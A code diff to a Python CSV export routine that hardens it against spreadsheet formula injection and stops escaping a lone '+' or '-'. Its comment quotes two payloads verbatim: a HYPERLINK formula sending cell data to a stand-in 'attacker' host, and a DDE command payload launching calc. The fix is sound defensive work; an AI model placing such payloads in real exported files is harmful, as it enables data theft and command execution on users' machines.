@@ -418,9 +418,10 @@ def to_csv(result: QueryResult) -> str:
 # '-' too (stop 19: '+HYPERLINK("http://attacker/?d="&A1;"…")' was a live link and
 # "-2+3+cmd|' /C calc'!A0" the classic DDE payload, both written as they were); a bullet such as
 # '- Sở Tài chính chủ trì' showed as #NAME? in Excel for the same reason and now reads as written.
-# A plain signed number ('-5', '+3,5') is a number, not a formula, and is left as it is.
+# A plain signed number ('-5', '+3,5') is a number, not a formula, and a sign alone (a task
+# labelled '-') is a sign: both are left as they are.
 _FORMULA_OPENERS = ("=", "@", "+", "-", "\t", "\r", "\x00")
-_SIGNED_NUMBER = re.compile(r"[+-]\d+(?:[.,]\d+)*%?")
+_SIGNED_NUMBER = re.compile(r"[+-](?:\d+(?:[.,]\d+)*%?)?")
 
 
 def _csv_text(text: str) -> str:
